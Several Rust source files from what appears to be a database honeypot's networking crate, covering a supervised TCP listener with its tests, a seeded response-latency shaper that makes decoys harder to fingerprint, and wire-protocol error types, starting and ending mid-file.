    use crate::framed::Framed;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    struct Echo {
        sessions: AtomicUsize,
    }

    impl SessionHandler for Echo {
        async fn handle(self: Arc<Self>, stream: SessionStream, _ctx: SessionCtx) {
            self.sessions.fetch_add(1, Ordering::SeqCst);
            let mut framed = Framed::new(stream, LineCodec::default());
            while let Ok(Some(line)) = framed.read_frame().await {
                if framed.write_frame(&line).await.is_err() {
                    break;
                }
            }
        }
    }

    fn loopback() -> SocketAddr {
        "127.0.0.1:0".parse().unwrap()
    }

    #[tokio::test]
    async fn serves_and_echoes_multiple_clients() {
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler.clone(), ListenerOptions::default())
            .await
            .unwrap();
        let addr = server.local_addr();

        for i in 0..4 {
            let stream = TcpStream::connect(addr).await.unwrap();
            let mut framed = Framed::new(stream, LineCodec::default());
            let msg = format!("hello-{i}");
            framed.write_frame(&msg).await.unwrap();
            assert_eq!(framed.read_frame().await.unwrap(), Some(msg));
        }
        server.shutdown().await;
        assert_eq!(handler.sessions.load(Ordering::SeqCst), 4);
    }

    #[tokio::test]
    async fn shutdown_stops_accepting() {
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, ListenerOptions::default())
            .await
            .unwrap();
        let addr = server.local_addr();
        server.shutdown().await;
        // Either the connect fails outright, or it succeeds (kernel backlog)
        // and the socket is immediately closed with no reads possible.
        if let Ok(mut s) = TcpStream::connect(addr).await {
            let mut buf = [0u8; 1];
            s.write_all(b"x").await.ok();
            let n = s.read(&mut buf).await.unwrap_or(0);
            assert_eq!(n, 0);
        }
    }

    #[tokio::test]
    async fn session_ctx_carries_peer_and_seq() {
        struct Capture {
            seqs: parking_lot::Mutex<Vec<u64>>,
        }
        impl SessionHandler for Capture {
            async fn handle(self: Arc<Self>, _stream: SessionStream, ctx: SessionCtx) {
                assert!(ctx.peer.ip().is_loopback());
                assert!(!ctx.shutdown.is_shutdown());
                self.seqs.lock().push(ctx.session_seq);
            }
        }
        let handler = Arc::new(Capture {
            seqs: parking_lot::Mutex::new(vec![]),
        });
        let server = Listener::bind(loopback(), handler.clone(), ListenerOptions::default())
            .await
            .unwrap();
        for _ in 0..3 {
            let s = TcpStream::connect(server.local_addr()).await.unwrap();
            drop(s);
        }
        // Give the sessions a moment to run.
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        server.shutdown().await;
        let mut seqs = handler.seqs.lock().clone();
        seqs.sort_unstable();
        assert_eq!(seqs, vec![1, 2, 3]);
    }

    #[tokio::test]
    async fn noop_signal_is_shared_and_never_fires() {
        let a = ShutdownSignal::noop();
        let b = ShutdownSignal::noop();
        assert!(!a.is_shutdown());
        assert!(!b.is_shutdown());
        // Both receivers hang off the one static sender.
        let tx = NOOP_SHUTDOWN.get().expect("initialized by noop()");
        assert!(tx.receiver_count() >= 2);
    }

    #[tokio::test]
    async fn idle_timeout_cuts_a_silent_session() {
        let options = ListenerOptions {
            limits: SessionLimits {
                deadline: Some(Duration::from_secs(10)),
                idle: Some(Duration::from_millis(150)),
                byte_budget: None,
            },
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, options).await.unwrap();
        let mut client = TcpStream::connect(server.local_addr()).await.unwrap();
        // Say nothing: the server must EOF our read once the handler exits.
        let mut buf = [0u8; 8];
        let read = tokio::time::timeout(Duration::from_secs(5), client.read(&mut buf)).await;
        assert_eq!(read.expect("server idle-cut within 5s").unwrap_or(0), 0);
        server.shutdown().await;
    }

    #[tokio::test]
    async fn deadline_cuts_a_slow_drip_session() {
        let options = ListenerOptions {
            limits: SessionLimits {
                deadline: Some(Duration::from_millis(300)),
                idle: Some(Duration::from_secs(10)),
                byte_budget: None,
            },
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, options).await.unwrap();
        let mut client = TcpStream::connect(server.local_addr()).await.unwrap();
        let start = tokio::time::Instant::now();
        // Drip bytes without ever completing a line: idle never fires, the
        // wall-clock deadline must.
        let mut buf = [0u8; 8];
        loop {
            if client.write_all(b"x").await.is_err() {
                break;
            }
            match tokio::time::timeout(Duration::from_millis(40), client.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                _ => {}
            }
            if start.elapsed() > Duration::from_secs(5) {
                panic!("slow-drip session outlived the deadline");
            }
        }
        assert!(start.elapsed() < Duration::from_secs(5));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn byte_budget_cuts_a_flooding_session() {
        let options = ListenerOptions {
            limits: SessionLimits {
                deadline: Some(Duration::from_secs(10)),
                idle: Some(Duration::from_secs(10)),
                byte_budget: Some(1024),
            },
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, options).await.unwrap();
        let mut client = TcpStream::connect(server.local_addr()).await.unwrap();
        let chunk = [b'a'; 512];
        let start = tokio::time::Instant::now();
        loop {
            if client.write_all(&chunk).await.is_err() {
                break;
            }
            let mut buf = [0u8; 4096];
            match tokio::time::timeout(Duration::from_millis(20), client.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => break,
                _ => {}
            }
            if start.elapsed() > Duration::from_secs(5) {
                panic!("flooding session outlived its byte budget");
            }
        }
        server.shutdown().await;
    }

    #[tokio::test]
    async fn shutdown_with_deadline_waits_for_drain() {
        struct SlowFinish;
        impl SessionHandler for SlowFinish {
            async fn handle(self: Arc<Self>, _stream: SessionStream, mut ctx: SessionCtx) {
                // Finish quickly once shutdown is signaled.
                ctx.shutdown.wait().await;
                tokio::time::sleep(Duration::from_millis(50)).await;
            }
        }
        let server = Listener::bind(loopback(), Arc::new(SlowFinish), ListenerOptions::default())
            .await
            .unwrap();
        let _client = TcpStream::connect(server.local_addr()).await.unwrap();
        // Wait until the session is actually registered.
        let started = tokio::time::Instant::now();
        while server.active_sessions() == 0 {
            if started.elapsed() > Duration::from_secs(5) {
                panic!("session never started");
            }
            tokio::time::sleep(Duration::from_millis(5)).await;
        }
        let gate = server.gate.clone();
        server.shutdown_with_deadline(Duration::from_secs(5)).await;
        assert_eq!(gate.active(), 0, "drain deadline did not wait for session");
    }

    #[tokio::test]
    async fn latency_shaping_advances_the_sim_clock() {
        use crate::latency::{LatencyProfile, LatencyShaper};
        let clock = Clock::simulated();
        let sim = clock.sim().unwrap().clone();
        let t0 = sim.now();
        let options = ListenerOptions {
            clock,
            latency: Some(LatencyShaper::new(11, LatencyProfile::lan())),
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, options).await.unwrap();
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, LineCodec::default());
        for i in 0..10 {
            let msg = format!("ping-{i}");
            framed.write_frame(&msg).await.unwrap();
            assert_eq!(framed.read_frame().await.unwrap(), Some(msg));
        }
        server.shutdown().await;
        // Each response advanced the simulated clock instead of sleeping.
        assert!(sim.now() > t0, "shaped responses left the sim clock still");
    }

    #[tokio::test]
    async fn latency_shaping_on_wall_clock_still_echoes() {
        use crate::latency::{LatencyProfile, LatencyShaper};
        let options = ListenerOptions {
            latency: Some(LatencyShaper::new(7, LatencyProfile::cache())),
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, options).await.unwrap();
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut framed = Framed::new(stream, LineCodec::default());
        framed.write_frame(&"shaped".to_string()).await.unwrap();
        assert_eq!(
            framed.read_frame().await.unwrap(),
            Some("shaped".to_string())
        );
        server.shutdown().await;
    }

    #[tokio::test]
    async fn chaos_crash_fault_ends_accept_loop() {
        let plan = FaultPlan {
            crash_per_mille: 1000,
            ..FaultPlan::new(5)
        };
        let options = ListenerOptions {
            faults: Some(plan),
            fault_key: 9,
            ..ListenerOptions::default()
        };
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let mut server = Listener::bind(loopback(), handler, options).await.unwrap();
        let _client = TcpStream::connect(server.local_addr()).await.unwrap();
        let exit = tokio::time::timeout(Duration::from_secs(5), server.wait_exit())
            .await
            .expect("accept loop must crash on the injected fault");
        assert_eq!(exit, ListenerExit::Crashed);
    }
}
