//! Supervised TCP listeners.
//!
//! A [`Listener`] binds a socket, accepts connections in a dedicated task,
//! and runs each session through a [`SessionHandler`] in its own task — the
//! spawning + graceful-shutdown pattern from the Tokio guide. The returned
//! [`ServerHandle`] shuts the listener down on request (or drop) and waits
//! for in-flight sessions to finish.

use crate::limiter::ConnectionGate;
use crate::time::Clock;
use std::future::Future;
use std::net::SocketAddr;
use std::sync::Arc;
use tokio::net::{TcpListener, TcpStream};
use tokio::sync::watch;
use tokio::task::JoinHandle;

/// Broadcast flag observed by sessions that should abort early on shutdown.
#[derive(Debug, Clone)]
pub struct ShutdownSignal {
    rx: watch::Receiver<bool>,
}

impl ShutdownSignal {
    /// A signal that never fires — for tests and standalone session drivers.
    pub fn noop() -> Self {
        let (tx, rx) = watch::channel(false);
        // Leak intentionally: a single watch sender per call site keeps the
        // receiver alive; noop signals are created once per test/driver.
        std::mem::forget(tx);
        ShutdownSignal { rx }
    }

    /// True once shutdown has been requested.
    pub fn is_shutdown(&self) -> bool {
        *self.rx.borrow()
    }

    /// Resolves when shutdown is requested (or immediately if it already was).
    pub async fn wait(&mut self) {
        if *self.rx.borrow() {
            return;
        }
        // An Err means the sender is gone, which also means shutdown.
        let _ = self.rx.wait_for(|v| *v).await;
    }
}

/// Everything a session handler knows about one accepted connection.
#[derive(Debug, Clone)]
pub struct SessionCtx {
    /// Remote endpoint of the connection.
    pub peer: SocketAddr,
    /// The port the honeypot instance is listening on.
    pub local_port: u16,
    /// Time source for event logging.
    pub clock: Clock,
    /// Cooperative shutdown flag.
    pub shutdown: ShutdownSignal,
    /// Monotone per-listener session counter (1-based).
    pub session_seq: u64,
}

/// Implemented by every honeypot server: drives one accepted connection.
pub trait SessionHandler: Send + Sync + 'static {
    /// Handle a single session to completion. Errors are the handler's to
    /// log; the supervisor only cares that the task ends.
    fn handle(
        self: Arc<Self>,
        stream: TcpStream,
        ctx: SessionCtx,
    ) -> impl Future<Output = ()> + Send;
}

/// Configuration for a [`Listener`].
#[derive(Debug, Clone)]
pub struct ListenerOptions {
    /// Maximum concurrent sessions; excess connections are dropped at accept.
    pub max_sessions: usize,
    /// Time source propagated to sessions.
    pub clock: Clock,
}

impl Default for ListenerOptions {
    fn default() -> Self {
        ListenerOptions {
            max_sessions: 4096,
            clock: Clock::Wall,
        }
    }
}

/// A running TCP listener bound to one honeypot instance.
pub struct Listener;

impl Listener {
    /// Bind `addr` and serve sessions with `handler` until shutdown.
    pub async fn bind<H: SessionHandler>(
        addr: SocketAddr,
        handler: Arc<H>,
        options: ListenerOptions,
    ) -> std::io::Result<ServerHandle> {
        let listener = TcpListener::bind(addr).await?;
        let local_addr = listener.local_addr()?;
        let (shutdown_tx, shutdown_rx) = watch::channel(false);
        let gate = ConnectionGate::new(options.max_sessions);
        let accept_gate = gate.clone();

        let accept_task: JoinHandle<()> = tokio::spawn(async move {
            let mut session_seq: u64 = 0;
            let mut shutdown = ShutdownSignal {
                rx: shutdown_rx.clone(),
            };
            loop {
                let accepted = tokio::select! {
                    biased;
                    _ = shutdown.wait() => break,
                    r = listener.accept() => r,
                };
                let (stream, peer) = match accepted {
                    Ok(pair) => pair,
                    // Transient accept errors (EMFILE, resets) must not kill
                    // the listener; yield and retry.
                    Err(_) => {
                        tokio::task::yield_now().await;
                        continue;
                    }
                };
                let Some(permit) = accept_gate.try_acquire() else {
                    drop(stream);
                    continue;
                };
                session_seq += 1;
                let ctx = SessionCtx {
                    peer,
                    local_port: local_addr.port(),
                    clock: options.clock.clone(),
                    shutdown: ShutdownSignal {
                        rx: shutdown_rx.clone(),
                    },
                    session_seq,
                };
                let handler = handler.clone();
                tokio::spawn(async move {
                    handler.handle(stream, ctx).await;
                    drop(permit);
                });
            }
        });

        Ok(ServerHandle {
            local_addr,
            shutdown_tx,
            accept_task,
            gate,
        })
    }
}

/// Handle to a running listener; shuts down on [`ServerHandle::shutdown`].
pub struct ServerHandle {
    local_addr: SocketAddr,
    shutdown_tx: watch::Sender<bool>,
    accept_task: JoinHandle<()>,
    gate: ConnectionGate,
}

impl ServerHandle {
    /// The address the listener actually bound (useful with port 0).
    pub fn local_addr(&self) -> SocketAddr {
        self.local_addr
    }

    /// Number of sessions currently in flight.
    pub fn active_sessions(&self) -> usize {
        self.gate.active()
    }

    /// Request shutdown and wait for the accept loop to exit. In-flight
    /// sessions observe the shared [`ShutdownSignal`]; callers that need a
    /// full drain can poll [`ServerHandle::active_sessions`].
    pub async fn shutdown(self) {
        let _ = self.shutdown_tx.send(true);
        let _ = self.accept_task.await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::codec::LineCodec;
    use crate::framed::Framed;
    use std::sync::atomic::{AtomicUsize, Ordering};
    use tokio::io::{AsyncReadExt, AsyncWriteExt};

    struct Echo {
        sessions: AtomicUsize,
    }

    impl SessionHandler for Echo {
        async fn handle(self: Arc<Self>, stream: TcpStream, _ctx: SessionCtx) {
            self.sessions.fetch_add(1, Ordering::SeqCst);
            let mut framed = Framed::new(stream, LineCodec::default());
            while let Ok(Some(line)) = framed.read_frame().await {
                if framed.write_frame(&line).await.is_err() {
                    break;
                }
            }
        }
    }

    fn loopback() -> SocketAddr {
        "127.0.0.1:0".parse().unwrap()
    }

    #[tokio::test]
    async fn serves_and_echoes_multiple_clients() {
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler.clone(), ListenerOptions::default())
            .await
            .unwrap();
        let addr = server.local_addr();

        for i in 0..4 {
            let stream = TcpStream::connect(addr).await.unwrap();
            let mut framed = Framed::new(stream, LineCodec::default());
            let msg = format!("hello-{i}");
            framed.write_frame(&msg).await.unwrap();
            assert_eq!(framed.read_frame().await.unwrap(), Some(msg));
        }
        server.shutdown().await;
        assert_eq!(handler.sessions.load(Ordering::SeqCst), 4);
    }

    #[tokio::test]
    async fn shutdown_stops_accepting() {
        let handler = Arc::new(Echo {
            sessions: AtomicUsize::new(0),
        });
        let server = Listener::bind(loopback(), handler, ListenerOptions::default())
            .await
            .unwrap();
        let addr = server.local_addr();
        server.shutdown().await;
        // Either the connect fails outright, or it succeeds (kernel backlog)
        // and the socket is immediately closed with no reads possible.
        if let Ok(mut s) = TcpStream::connect(addr).await {
            let mut buf = [0u8; 1];
            s.write_all(b"x").await.ok();
            let n = s.read(&mut buf).await.unwrap_or(0);
            assert_eq!(n, 0);
        }
    }

    #[tokio::test]
    async fn session_ctx_carries_peer_and_seq() {
        struct Capture {
            seqs: parking_lot::Mutex<Vec<u64>>,
        }
        impl SessionHandler for Capture {
            async fn handle(self: Arc<Self>, _stream: TcpStream, ctx: SessionCtx) {
                assert!(ctx.peer.ip().is_loopback());
                assert!(!ctx.shutdown.is_shutdown());
                self.seqs.lock().push(ctx.session_seq);
            }
        }
        let handler = Arc::new(Capture {
            seqs: parking_lot::Mutex::new(vec![]),
        });
        let server = Listener::bind(loopback(), handler.clone(), ListenerOptions::default())
            .await
            .unwrap();
        for _ in 0..3 {
            let s = TcpStream::connect(server.local_addr()).await.unwrap();
            drop(s);
        }
        // Give the sessions a moment to run.
        tokio::time::sleep(std::time::Duration::from_millis(100)).await;
        server.shutdown().await;
        let mut seqs = handler.seqs.lock().clone();
        seqs.sort_unstable();
        assert_eq!(seqs, vec![1, 2, 3]);
    }
}
