//! Seeded per-op response-latency shaping.
//!
//! A honeypot that answers every query in tens of microseconds is trivially
//! fingerprintable: real DBMS servers sit behind query planners, buffer
//! pools, and spinning disks, and their response latencies form a skewed
//! distribution with a long tail. The multistage-fingerprinting literature
//! ("Gotta catch 'em all", PAPERS.md) samples exactly that distribution.
//!
//! [`LatencyShaper`] closes the gap deterministically: every `(seed,
//! session, op)` triple hashes to one draw from a configurable
//! [`LatencyProfile`] (floor / median / ceiling plus a per-mille tail
//! probability), so replaying an experiment replays its latencies — no
//! wall-clock flake, no RNG state threading. The server layer applies the
//! draw per response write (see `server::SessionStream`): on a simulated
//! [`Clock`](crate::time::Clock) the shared clock advances instead of the
//! task sleeping, keeping tests instant; on the wall clock the session
//! really waits.
//!
//! Shaping is opt-in (`ListenerOptions::latency` defaults to `None`) so
//! existing byte-identity goldens are untouched.

use std::time::Duration;

/// Shape of the response-latency distribution a shaper draws from.
///
/// All quantities are microseconds. Draws are triangular on
/// `[floor_us, 2*median_us - floor_us]` peaked at `median_us`, except that
/// `tail_per_mille` out of every 1000 draws land uniformly in
/// `[median_us, ceil_us]` — the long tail a loaded server shows.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LatencyProfile {
    /// Fastest plausible response (cache hit, already-parsed statement).
    pub floor_us: u64,
    /// Typical response; the peak of the body distribution.
    pub median_us: u64,
    /// Slowest shaped response; every draw is clamped here.
    pub ceil_us: u64,
    /// Out of every 1000 ops, how many draw from the slow tail.
    pub tail_per_mille: u16,
}

impl LatencyProfile {
    /// A LAN-attached database: sub-millisecond floor, a few milliseconds
    /// typical, occasional tens-of-milliseconds stalls.
    pub fn lan() -> Self {
        LatencyProfile {
            floor_us: 350,
            median_us: 2_400,
            ceil_us: 45_000,
            tail_per_mille: 30,
        }
    }

    /// An in-memory store (Redis-like): faster floor and median, shorter
    /// tail — but still a distribution, never a constant.
    pub fn cache() -> Self {
        LatencyProfile {
            floor_us: 120,
            median_us: 650,
            ceil_us: 9_000,
            tail_per_mille: 15,
        }
    }
}

impl Default for LatencyProfile {
    fn default() -> Self {
        LatencyProfile::lan()
    }
}

/// SplitMix64 finalizer: one multiply-xorshift avalanche per level, the
/// same generator family the chaos plan uses for per-session decisions.
#[inline]
fn mix64(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// Deterministic per-op latency source: a pure function of
/// `(seed, session, op)`, shared by every listener in a deployment via
/// `ListenerOptions::latency`.
#[derive(Debug, Clone)]
pub struct LatencyShaper {
    seed: u64,
    profile: LatencyProfile,
}

impl LatencyShaper {
    /// A shaper keyed by `seed` drawing from `profile`.
    pub fn new(seed: u64, profile: LatencyProfile) -> Self {
        LatencyShaper { seed, profile }
    }

    /// The distribution this shaper draws from.
    pub fn profile(&self) -> &LatencyProfile {
        &self.profile
    }

    // decoy-hot-path: fn -- one draw per response write on every shaped session
    /// The delay for response `op` of session `session`: pure integer
    /// hashing, no RNG state, no allocation. Identical inputs always
    /// yield the identical delay.
    pub fn delay_for(&self, session: u64, op: u64) -> Duration {
        let p = &self.profile;
        let h = mix64(self.seed ^ mix64(session ^ mix64(op)));
        let micros = if (h >> 52) % 1000 < u64::from(p.tail_per_mille) {
            // Tail draw: uniform over [median, ceil].
            let span = p.ceil_us.saturating_sub(p.median_us);
            p.median_us + (h & 0xffff_ffff) % span.saturating_add(1)
        } else {
            // Body draw: sum of two independent 16-bit lanes gives a
            // triangular distribution peaked at the median.
            let spread = p.median_us.saturating_sub(p.floor_us);
            let a = h & 0xffff;
            let b = (h >> 16) & 0xffff;
            p.floor_us + ((a + b) * spread) / 0xffff
        };
        Duration::from_micros(micros.min(p.ceil_us))
    }

    // decoy-hot-path: fn -- deadline clamp on the same per-write path
    /// [`LatencyShaper::delay_for`] clamped so a shaped delay can never
    /// outlive the session budget (`SessionLimits::deadline` remainder).
    pub fn delay_within(&self, session: u64, op: u64, remaining: Option<Duration>) -> Duration {
        let d = self.delay_for(session, op);
        match remaining {
            Some(r) => d.min(r),
            None => d,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn identical_inputs_identical_delays() {
        let s = LatencyShaper::new(11, LatencyProfile::lan());
        for session in 0..50u64 {
            for op in 0..20u64 {
                assert_eq!(s.delay_for(session, op), s.delay_for(session, op));
            }
        }
    }

    #[test]
    fn draws_stay_inside_the_profile() {
        let p = LatencyProfile::lan();
        let s = LatencyShaper::new(7, p.clone());
        for session in 0..200u64 {
            for op in 0..10u64 {
                let d = s.delay_for(session, op).as_micros() as u64;
                assert!(d >= p.floor_us, "{d} below floor");
                assert!(d <= p.ceil_us, "{d} above ceiling");
            }
        }
    }

    #[test]
    fn distribution_is_not_a_constant() {
        let s = LatencyShaper::new(3, LatencyProfile::cache());
        let mut seen = std::collections::HashSet::new();
        for op in 0..64u64 {
            seen.insert(s.delay_for(1, op));
        }
        assert!(seen.len() > 16, "only {} distinct delays", seen.len());
    }

    #[test]
    fn tail_draws_occur_but_rarely() {
        let p = LatencyProfile::lan();
        let s = LatencyShaper::new(5, p.clone());
        let mut tail = 0usize;
        let total = 4000usize;
        for op in 0..total as u64 {
            if s.delay_for(9, op).as_micros() as u64 > p.median_us {
                tail += 1;
            }
        }
        assert!(tail > 0, "no tail draws in {total}");
        assert!(tail < total / 4, "{tail} tail draws is not a tail");
    }

    #[test]
    fn delay_within_respects_the_budget() {
        let s = LatencyShaper::new(1, LatencyProfile::lan());
        let cap = Duration::from_micros(500);
        for op in 0..100u64 {
            assert!(s.delay_within(2, op, Some(cap)) <= cap);
        }
        assert_eq!(s.delay_within(2, 0, None), s.delay_for(2, 0));
    }

    #[test]
    fn different_seeds_diverge() {
        let a = LatencyShaper::new(1, LatencyProfile::lan());
        let b = LatencyShaper::new(2, LatencyProfile::lan());
        let diverged = (0..32u64).any(|op| a.delay_for(1, op) != b.delay_for(1, op));
        assert!(diverged);
    }

    proptest::proptest! {
        /// The draw is a pure function of (seed, session, op): two shapers
        /// built from the same seed agree on every delay.
        #[test]
        fn prop_delay_is_deterministic(seed: u64, session: u64, op: u64) {
            let a = LatencyShaper::new(seed, LatencyProfile::lan());
            let b = LatencyShaper::new(seed, LatencyProfile::lan());
            proptest::prop_assert_eq!(a.delay_for(session, op), b.delay_for(session, op));
        }

        /// A shaped delay clamped by the session deadline never exceeds it,
        /// and an unclamped delay never exceeds the profile ceiling — so
        /// shaping can never push a session past `SessionLimits::deadline`.
        #[test]
        fn prop_delay_respects_deadlines(
            seed: u64,
            session: u64,
            op: u64,
            cap_us in 1u64..2_000_000,
        ) {
            let p = LatencyProfile::lan();
            let s = LatencyShaper::new(seed, p.clone());
            let cap = Duration::from_micros(cap_us);
            proptest::prop_assert!(s.delay_within(session, op, Some(cap)) <= cap);
            proptest::prop_assert!(s.delay_for(session, op).as_micros() as u64 <= p.ceil_us);
        }
    }
}
