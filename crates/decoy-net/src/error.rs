//! Error type shared by the networking substrate.

use std::fmt;

/// Errors produced by codecs, framed streams, and the server substrate.
#[derive(Debug)]
pub enum NetError {
    /// Underlying socket I/O failed.
    Io(std::io::Error),
    /// The peer sent bytes that do not form a valid frame for the protocol.
    ///
    /// Honeypots treat this as *signal*, not failure: malformed input is
    /// logged and the session usually answers with the protocol's error
    /// reply instead of being torn down.
    Protocol(String),
    /// A frame exceeded the per-protocol size limit.
    FrameTooLarge {
        /// The codec's limit in bytes.
        limit: usize,
        /// Bytes buffered when the limit tripped.
        got: usize,
    },
    /// The peer closed the connection mid-frame.
    UnexpectedEof,
    /// The session exceeded its idle timeout.
    IdleTimeout,
    /// The listener is shutting down.
    Shutdown,
    /// The rate limiter or connection gate rejected the peer.
    Rejected(String),
    /// A structured wire-protocol violation from a `decoy-wire` decoder.
    ///
    /// Unlike [`NetError::Protocol`], this carries the protocol, the byte
    /// offset at which parsing became impossible, and a machine-readable
    /// kind, so malformed frames can be logged as analysable events.
    Wire(WireError),
}

/// Wire protocols the decoders can attribute a violation to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
#[non_exhaustive]
pub enum WireProtocol {
    /// PostgreSQL v3 wire protocol.
    Pgwire,
    /// MySQL client/server protocol.
    MySql,
    /// Redis RESP2.
    Resp,
    /// Microsoft TDS (MSSQL).
    Tds,
    /// MongoDB wire protocol (OP_MSG / OP_QUERY / OP_REPLY).
    Mongo,
    /// BSON documents embedded in MongoDB frames.
    Bson,
    /// HTTP/1.1 (Elasticsearch / CouchDB REST surface).
    Http,
    /// HAProxy PROXY protocol header.
    Proxy,
    /// A protocol foreign to the advertised service (RDP, JDWP, ...).
    Foreign,
}

impl fmt::Display for WireProtocol {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let name = match self {
            WireProtocol::Pgwire => "pgwire",
            WireProtocol::MySql => "mysql",
            WireProtocol::Resp => "resp",
            WireProtocol::Tds => "tds",
            WireProtocol::Mongo => "mongo",
            WireProtocol::Bson => "bson",
            WireProtocol::Http => "http",
            WireProtocol::Proxy => "proxy",
            WireProtocol::Foreign => "foreign",
        };
        f.write_str(name)
    }
}

/// What exactly went wrong while parsing a frame.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub enum WireErrorKind {
    /// A field needed more bytes than the frame contains.
    Truncated {
        /// Bytes the field required.
        needed: usize,
        /// Bytes actually available at the offset.
        available: usize,
    },
    /// An attacker-supplied length field is outside the accepted range.
    LengthOutOfRange {
        /// The declared length, widened for uniformity.
        declared: u64,
        /// The maximum this decoder accepts.
        max: u64,
    },
    /// A magic number, tag byte, or version marker is wrong.
    BadMagic {
        /// Which marker was wrong.
        what: &'static str,
    },
    /// A delimited field (C string, CRLF line) never terminates.
    Unterminated {
        /// Which field was unterminated.
        what: &'static str,
    },
    /// Text that must be UTF-8 is not.
    InvalidUtf8,
    /// Recursive structure exceeded the nesting limit.
    NestingTooDeep {
        /// The enforced depth limit.
        limit: u32,
    },
    /// A collection declared more elements than the decoder accepts.
    TooManyElements {
        /// The enforced element limit.
        limit: u64,
    },
    /// Anything else that makes the bytes unparseable.
    Malformed {
        /// Human-readable detail.
        detail: &'static str,
    },
}

impl fmt::Display for WireErrorKind {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            WireErrorKind::Truncated { needed, available } => {
                write!(f, "truncated field (need {needed} bytes, have {available})")
            }
            WireErrorKind::LengthOutOfRange { declared, max } => {
                write!(f, "length {declared} out of range (max {max})")
            }
            WireErrorKind::BadMagic { what } => write!(f, "bad {what}"),
            WireErrorKind::Unterminated { what } => write!(f, "unterminated {what}"),
            WireErrorKind::InvalidUtf8 => write!(f, "invalid utf-8"),
            WireErrorKind::NestingTooDeep { limit } => {
                write!(f, "nesting deeper than {limit}")
            }
            WireErrorKind::TooManyElements { limit } => {
                write!(f, "more than {limit} elements declared")
            }
            WireErrorKind::Malformed { detail } => f.write_str(detail),
        }
    }
}

/// A structured protocol violation: which protocol, where in the frame, and
/// what kind of damage. This is the error type of the fallible-decode
/// contract — every `decoy-wire` decoder is total and returns `WireError`
/// (never panics) on adversarial input.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WireError {
    /// The protocol whose grammar was violated.
    pub protocol: WireProtocol,
    /// Byte offset (within the frame being parsed) of the violation.
    pub offset: usize,
    /// Machine-readable classification.
    pub kind: WireErrorKind,
}

impl WireError {
    /// Construct a violation at `offset`.
    pub fn new(protocol: WireProtocol, offset: usize, kind: WireErrorKind) -> Self {
        WireError {
            protocol,
            offset,
            kind,
        }
    }
}

impl fmt::Display for WireError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} at byte {}: {}",
            self.protocol, self.offset, self.kind
        )
    }
}

impl std::error::Error for WireError {}

impl From<WireError> for NetError {
    fn from(e: WireError) -> Self {
        NetError::Wire(e)
    }
}

impl NetError {
    /// Convenience constructor for protocol violations.
    pub fn protocol(msg: impl Into<String>) -> Self {
        NetError::Protocol(msg.into())
    }

    /// True when the error is attributable to peer behaviour rather than to
    /// our own machinery (used to decide whether a session counts as
    /// "malformed input observed" in the logs).
    pub fn is_peer_fault(&self) -> bool {
        matches!(
            self,
            NetError::Protocol(_)
                | NetError::Wire(_)
                | NetError::FrameTooLarge { .. }
                | NetError::UnexpectedEof
        )
    }
}

impl fmt::Display for NetError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            NetError::Io(e) => write!(f, "i/o error: {e}"),
            NetError::Protocol(m) => write!(f, "protocol violation: {m}"),
            NetError::FrameTooLarge { limit, got } => {
                write!(f, "frame of {got} bytes exceeds limit of {limit}")
            }
            NetError::UnexpectedEof => write!(f, "peer closed connection mid-frame"),
            NetError::IdleTimeout => write!(f, "session idle timeout"),
            NetError::Shutdown => write!(f, "server shutting down"),
            NetError::Rejected(m) => write!(f, "connection rejected: {m}"),
            NetError::Wire(e) => write!(f, "protocol violation: {e}"),
        }
    }
}

impl std::error::Error for NetError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            NetError::Io(e) => Some(e),
            NetError::Wire(e) => Some(e),
            _ => None,
        }
    }
}

impl From<std::io::Error> for NetError {
    fn from(e: std::io::Error) -> Self {
        if e.kind() == std::io::ErrorKind::UnexpectedEof {
            NetError::UnexpectedEof
        } else {
            NetError::Io(e)
        }
    }
}

/// Result alias used throughout the substrate.
pub type NetResult<T> = Result<T, NetError>;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_formats_are_stable() {
        assert_eq!(
